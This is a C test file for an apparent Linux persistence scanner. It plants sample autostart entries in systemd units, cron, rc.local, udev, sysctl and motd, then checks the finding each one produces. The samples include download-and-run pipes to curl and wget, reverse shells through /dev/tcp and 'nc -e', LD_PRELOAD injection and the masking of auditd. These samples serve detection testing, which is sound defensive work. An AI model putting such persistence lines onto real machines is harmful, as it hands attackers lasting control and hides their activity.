/* SPDX-License-Identifier: Apache-2.0 */
#include "trial.h"

#include <time.h>

#define ETC "etc/systemd/system"
#define LIB "usr/lib/systemd/system"

static const char *const directories[] = {
	"etc",
	"etc/systemd",
	ETC,
	ETC "/multi-user.target.wants",
	ETC "/fstrim.timer.d",
	"etc/systemd/system.conf.d",
	"etc/systemd/user",
	"etc/systemd/system-preset",
	ETC "/app.service.d",
	"etc/cron.d",
	"etc/cron.daily",
	"etc/udev",
	"etc/udev/rules.d",
	"etc/init.d",
	"etc/rc2.d",
	"etc/default",
	"etc/xdg",
	"etc/xdg/autostart",
	"etc/tmpfiles.d",
	"etc/sysctl.d",
	"etc/modprobe.d",
	"etc/logrotate.d",
	"etc/network",
	"etc/network/interfaces.d",
	"etc/update-motd.d",
	"usr",
	"usr/bin",
	"usr/lib",
	"usr/lib/systemd",
	LIB,
	"usr/share",
	"usr/share/dbus-1",
	"usr/share/dbus-1/system-services",
	"usr/local",
	"usr/local/bin",
	"opt",
	"tmp",
	"dev",
	"var",
	"var/spool",
	"var/spool/cron",
	"var/spool/cron/crontabs",
	"var/spool/cron/atjobs",
	"home",
	"home/u",
};

/* A sealed tree with the usual places, and a few programs and units that are vouched for. */
static int setup(void **state)
{
	struct trial *trial;

	if (trial_setup(state) != 0)
		return -1;
	trial = *state;
	for (size_t i = 0; i < ELEMENTS(directories); i++)
		tree_directory(trial->root, directories[i]);
	tree_file(trial->root, "etc/passwd",
		  "root:x:0:0::/root:/bin/bash\nwww-data:x:33:33::/:/usr/sbin/nologin\n"
		  "u:x:1000:1000::/home/u:/bin/sh\n");
	tree_file(trial->root, "usr/bin/true", "ELF");
	tree_file(trial->root, "usr/bin/sh", "ELF");
	tree_file(trial->root, LIB "/fstrim.timer", "[Timer]\nOnCalendar=weekly\n");
	tree_file(trial->root, LIB "/debug-shell.service", "[Install]\nWantedBy=sysinit.target\n");
	tree_file(trial->root, LIB "/auditd.service", "[Service]\nExecStart=/sbin/auditd\n");
	tree_file(trial->root, LIB "/app.service", "[Service]\nUser=u\n");
	tree_file(trial->root, "opt/loose", "#!/bin/sh\n");
	tree_mode(trial->root, "opt/loose", 0777);
	trial_seal(trial, "");
	return 0;
}

static void check(struct trial *trial, struct findings *ret)
{
	_cleanup_comparison_ struct comparison comparison = {};

	trial_compare(trial, PHASE_IMAGE, &comparison);
	trial_check(trial, &comparison, 0, ret);
}

/* What is planted, and the one finding that it gives. */
struct plant {
	const char *path, *text; /* a link's target when it begins with "->" */
	const char *program;	 /* made as well, or NULL */
	const char *code;
	const char *title, *actual; /* parts of it, or NULL */
};

static const struct plant plants[] = {
	/* units */
	{ETC "/a.service", "[Service]\nUser=u\nExecStart=/tmp/x\n[Install]\nWantedBy=b.target\n",
	 "tmp/x", "service.starts-temporary", "a.service starts /tmp/x, which lies where",
	 "as u, with b.target: /tmp/x"},
	{ETC "/a.service", "[Service]\nExecStart=/usr/bin/true\n", NULL, "service.unexpected", NULL,
	 NULL},
	{ETC "/a.service", "[Service]\nExecStart=/usr/local/bin/x\n", "usr/local/bin/x",
	 "service.unexpected", NULL, "ExecStart=/usr/local/bin/x"},
	{ETC "/a.service", "[Service]\nExecStart=/opt/.x/y\n", NULL, "service.starts-hidden", NULL,
	 NULL},
	{ETC "/a.service", "[Service]\nExecStart=/opt/loose\n", NULL, "service.writable-program",
	 NULL, "others can write /opt/loose"},
	{ETC "/a.service", "[Service]\nExecStart=/bin/sh -c 'curl x|sh'\n", NULL,
	 "service.download-and-run", NULL, NULL},
	{ETC "/a.service", "[Service]\nExecStart=/usr/bin/sh -c 'exec sh >/dev/tcp/1/2'\n", NULL,
	 "service.connects-shell", NULL, NULL},
	{ETC "/a.service", "[Service]\nEnvironment=A=b LD_PRELOAD=/x.so\nExecStart=/usr/bin/true\n",
	 NULL, "preload.environment", NULL, "LD_PRELOAD"},
	{ETC "/a@.service", "[Service]\nExecStart=/usr/bin/sh /tmp/%i-%p\n", NULL,
	 "service.starts-temporary", "/tmp/-a", NULL},
	{ETC "/a.socket", "[Socket]\nListenStream=22\nExecStartPre=/tmp/x\n", NULL,
	 "service.starts-temporary", NULL, "on a connection to 22"},
	{ETC "/a.timer", "[Timer]\nOnCalendar=*:0/5\nUnit=b.service\n", NULL, "timer.unexpected",
	 NULL, NULL},
	{ETC "/getty@tty1.service", "[Service]\nExecStart=-/sbin/agetty --autologin root %I\n",
	 NULL, "service.console-login", "without asking for a password", NULL},
	{ETC "/a.service", "->/dev/shm/a.service", NULL, "service.starts-temporary", NULL, NULL},
	{ETC "/auditd.service", "->/dev/null", NULL, "service.masked-security",
	 "auditd.service is switched off", NULL},
	{ETC "/fstrim.timer", "[Timer]\nOnCalendar=minutely\n", NULL, "service.replaces-unit",
	 "fstrim.timer takes the place", NULL},
	{ETC "/app.service.d/a.conf", "[Service]\nExecStartPre=/tmp/x\n", NULL,
	 "service.starts-temporary", NULL, "as u: /tmp/x"},
	{"etc/systemd/system-preset/a.preset", "# x\ndisable auditd.service\n", NULL,
	 "service.disabled-by-preset", NULL, NULL},
	{"etc/systemd/system-preset/a.preset", "enable debug-shell.service\n", NULL,
	 "service.dormant-enabled", NULL, NULL},
	{"etc/systemd/system-preset/a.preset", "enable fstrim.timer\ndisable *\n", NULL,
	 "service.unexpected", NULL, NULL},
	{ETC "/x.service", "->/dev/null", NULL, "service.unexpected", NULL, NULL},
	{ETC "/multi-user.target.wants/debug-shell.service",
	 "->/lib/systemd/system/debug-shell.service", NULL, "service.dormant-enabled", NULL, NULL},
	{ETC "/multi-user.target.wants/fstrim.timer", "->/lib/systemd/system/fstrim.timer", NULL,
	 "timer.unexpected", NULL, NULL},
	{"etc/systemd/system.conf.d/a.conf", "[Manager]\nDefaultEnvironment=LD_AUDIT=/x\n", NULL,
	 "preload.environment", NULL, NULL},
	{"usr/share/dbus-1/system-services/a.service", "[D-BUS Service]\nExec=/tmp/x\nUser=root\n",
	 NULL, "service.starts-temporary", NULL, "on the bus"},
	{"etc/xdg/autostart/a.desktop", "[Desktop Entry]\nExec=sh -c \"/tmp/x %u\"\n", NULL,
	 "xdg.starts-temporary", NULL, NULL},

	/* cron, at, init */
	{"etc/cron.d/a", "MAILTO=x\n*/5 * * * * u /tmp/x >/dev/null\n", NULL,
	 "cron.starts-temporary", NULL, "as u, every 5 minutes: /tmp/x"},
	{"etc/cron.d/a", "5 4 * * * root true\n", NULL, "cron.unexpected", NULL, NULL},
	{"etc/cron.d/a", "LD_PRELOAD=/x\n", NULL, "preload.environment", NULL, NULL},
	{"etc/cron.d/a", "@reboot root wget -qO- x | sh %in\n", NULL, "cron.download-and-run", NULL,
	 "as root, at each boot"},
	{"etc/cron.d/a", "0 3 * * * root /bin/sh -c '/opt/loose'\n", NULL, "cron.writable-program",
	 NULL, "every day at 3:00"},
	{"var/spool/cron/crontabs/u", "1 2 3 4 5 /tmp/x\n", NULL, "cron.starts-temporary",
	 "starts /tmp/x", "as u, at the times 1 2 3 4 5: /tmp/x"},
	{"var/spool/cron/crontabs/ghost", "@daily true\n", NULL, "cron.absent-account", NULL,
	 "as ghost, every day"},
	{"var/spool/cron/crontabs/www-data", "@daily true\n", NULL, "cron.service-account", NULL,
	 NULL},
	{"var/spool/cron/crontabs/root", "@daily true\n", NULL, "cron.unexpected", NULL, NULL},
	{"etc/anacrontab", "1 5 name /tmp/x\n", NULL, "cron.starts-temporary", NULL,
	 "every 1 days: /tmp/x"},
	{"etc/cron.daily/a", "#!/bin/sh\n/usr/lib/.x\n", NULL, "cron.starts-hidden", NULL, NULL},
	{"etc/cron.daily/a", "->/usr/local/bin/x", "usr/local/bin/x", "cron.starts-unvouched", NULL,
	 NULL},
	{"var/spool/cron/atjobs/a0001", "#!/bin/sh\ntrue\n", NULL, "at.job", NULL, NULL},
	{"etc/rc.local", "#!/bin/sh\nnc -e /bin/sh h 1\n", NULL, "init.connects-shell", NULL, NULL},
	{"etc/init.d/a", "#!/bin/sh\nstart-stop-daemon --start --exec /tmp/x\n", NULL,
	 "init.starts-temporary", NULL, NULL},

	/* others */
	{"etc/udev/rules.d/a.rules", "ACTION==\"add\", \\\n ENV{X}=\"a, b\", RUN+=\"/tmp/x %k\"\n",
	 NULL, "udev.starts-temporary", NULL, "when a device appears"},
	{"etc/udev/rules.d/a.rules", "IMPORT{program}=\"/opt/loose\", SYMLINK+=\"/tmp/x\"\n", NULL,
	 "udev.writable-program", NULL, NULL},
	{"etc/udev/rules.d/a.rules", "RUN{builtin}+=\"kmod load x\", NAME=\"/tmp/x\"\n", NULL,
	 "udev.unexpected", NULL, NULL},
	{"etc/default/a", "# x\nexport LD_PRELOAD=/x.so\n", NULL, "preload.environment", NULL,
	 NULL},
	{"etc/tmpfiles.d/a.conf", "f /etc/cron.d/x 0644 - - - @reboot\\040root\\040x\n", NULL,
	 "trigger.makes-autostart", NULL, NULL},
	{"etc/tmpfiles.d/a.conf", "d /run/x 0755\n", NULL, "trigger.unexpected", NULL, NULL},
	{"etc/sysctl.d/a.conf", "kernel.core_pattern = |/tmp/x %p\n", NULL,
	 "trigger.starts-temporary", NULL, "when a program crashes"},
	{"etc/modprobe.d/a.conf", "install nfs /tmp/x; /sbin/modprobe nfs\n", NULL,
	 "kmod.starts-temporary", NULL, "when a kernel module is loaded: /tmp/x"},
	{"etc/logrotate.d/a", "/var/log/a {\n postrotate\n  /tmp/x\n endscript\n}\n", NULL,
	 "trigger.starts-temporary", NULL, NULL},
	{"etc/logrotate.d/a", "/tmp/x {\n postrotate\n  true\n endscript\n}\n", NULL,
	 "trigger.unexpected", NULL, NULL},
	{"etc/network/interfaces.d/a", "iface lo inet loopback\n post-up /tmp/x\n", NULL,
	 "nethook.starts-temporary", NULL, NULL},
	{"etc/update-motd.d/a", "#!/bin/sh\ncurl -s x | bash\n", NULL, "motd.download-and-run",
	 NULL, "at each login"},
};

static void expect_part(const struct plant *plant, const char *text, const char *part)
{
	if (part && (!text || !strstr(text, part)))
		fail_msg("%s: \"%s\", expected \"%s\"", plant->path, text ? text : "", part);
}

static void check_plant(struct trial *trial, const struct plant *plant)
{
	_cleanup_findings_ struct findings findings = {};
	const struct finding *finding;

	if (strncmp(plant->text, "->", 2) == 0)
		tree_link(trial->root, plant->path, plant->text + 2);
	else
		tree_file(trial->root, plant->path, plant->text);
	if (plant->program)
		tree_file(trial->root, plant->program,
			  "\x7f"
			  "ELF");
	check(trial, &findings);
	if (findings.count != 1)
		fail_msg("%s: %zu findings for\n%s", plant->path, findings.count, plant->text);
	finding = &findings.items[0];
	if (strcmp(finding->code, plant->code) != 0)
		fail_msg("%s: %s, expected %s: %s", plant->path, finding->code, plant->code,
			 plant->text);
	assert_string_equal(finding->path + 1, plant->path);
	assert_int_not_equal(finding->severity, SEVERITY_INFO);
	expect_part(plant, finding->title, plant->title);
	expect_part(plant, finding->actual, plant->actual);
	tree_remove(trial->root, plant->path);
	if (plant->program)
		tree_remove(trial->root, plant->program);
}

static void test_plants(void **state)
{
	for (size_t i = 0; i < ELEMENTS(plants); i++)
		check_plant(*state, &plants[i]);
}

static bool is_related(const struct finding *finding, const char *path)
{
	for (size_t i = 0; i < finding->n_related; i++)
		if (strcmp(finding->related[i], path) == 0)
			return true;
	return false;
}

/* What one starts by the other's name is one thing, and the program is followed through both. */
static void test_units_that_start_units(void **state)
{
	struct trial *trial = *state;
	_cleanup_findings_ struct findings findings = {}, bad = {};

	tree_file(trial->root, ETC "/fstrim.timer.d/10.conf",
		  "[Timer]\nOnCalendar=\nOnCalendar=minutely\nUnit=report.service\n");
	tree_file(trial->root, LIB "/report.service", "[Service]\nExecStart=/usr/bin/true\n");
	check(trial, &findings);
	assert_int_equal(findings.count, 1);
	assert_int_equal(strncmp(findings.items[0].code, "timer.", 6), 0);
	assert_string_equal(findings.items[0].path, "/" ETC "/fstrim.timer.d/10.conf");
	assert_true(is_related(&findings.items[0], "/" LIB "/report.service"));
	tree_file(trial->root, LIB "/report.service", "[Service]\nExecStart=/tmp/x\n");
	check(trial, &bad);
	assert_int_equal(bad.count, 1);
	assert_string_equal(bad.items[0].code, "timer.starts-temporary");
	assert_string_equal(bad.items[0].path, "/" ETC "/fstrim.timer.d/10.conf");
	assert_non_null(strstr(bad.items[0].title, "report.service starts /tmp/x"));
}

/* The worst of what a group starts is told, under the group's path. */
static void test_groups(void **state)
{
	struct trial *trial = *state;
	_cleanup_findings_ struct findings findings = {};

	tree_file(trial->root, ETC "/a.timer", "[Timer]\nOnBootSec=1\n");
	tree_file(trial->root, ETC "/a.service",
		  "[Service]\nExecStartPre=/usr/bin/true\nExecStart=/dev/shm/x\nEnvironmentFile="
		  "/etc/default/a\n");
	tree_file(trial->root, "etc/default/a", "A=b\n");
	check(trial, &findings);
	assert_int_equal(findings.count, 1);
	assert_string_equal(findings.items[0].code, "timer.starts-temporary");
	assert_string_equal(findings.items[0].path, "/" ETC "/a.timer");
	assert_non_null(strstr(findings.items[0].title, "a.service starts /dev/shm/x"));
}

static void test_nothing(void **state)
{
	_cleanup_findings_ struct findings findings = {};

	check(*state, &findings);
	assert_int_equal(findings.count, 0);
}

static double seconds_since(const struct timespec *start)
{
	struct timespec now;

	assert_int_equal(clock_gettime(CLOCK_MONOTONIC, &now), 0);
	return (double)(now.tv_sec - start->tv_sec) + (double)(now.tv_nsec - start->tv_nsec) / 1e9;
}

static const struct finding *find_code(const struct findings *findings, const char *code)
{
	for (size_t i = 0; i < findings->count; i++)
		if (strcmp(findings->items[i].code, code) == 0)
			return &findings->items[i];
	return NULL;
}

/* A unit of a million lines, an endless table, and units that start each other for ever. */
static void test_hostile(void **state)
{
	struct trial *trial = *state;
	_cleanup_findings_ struct findings findings = {};
	size_t size = 8 << 20;
	_cleanup_free_ char *text = malloc(size);
	struct timespec start;

	assert_non_null(text);
	memset(text, '\n', size);
	tree_bytes(trial->root, ETC "/long.service", text, size);
	for (size_t i = 0; i < size; i++)
		text[i] = "* * * * * root /tmp/x\n"[i % 22];
	tree_bytes(trial->root, "etc/cron.d/long", text, size);
	for (int i = 0; i < 1500; i++) {
		char name[64], unit[64];

		(void)snprintf(name, sizeof(name), ETC "/u%d.service", i);
		(void)snprintf(unit, sizeof(unit), "[Unit]\nWants=u%d.service\n", (i + 1) % 1500);
		tree_file(trial->root, name, unit);
	}
	assert_int_equal(clock_gettime(CLOCK_MONOTONIC, &start), 0);
	check(trial, &findings);
	assert_true(seconds_since(&start) < 60);
	assert_non_null(find_code(&findings, "coverage.limit"));
	assert_non_null(find_code(&findings, "cron.starts-temporary"));
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, setup, trial_teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(test_plants),  TEST(test_units_that_start_units),
		TEST(test_groups),  TEST(test_nothing),
		TEST(test_hostile),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
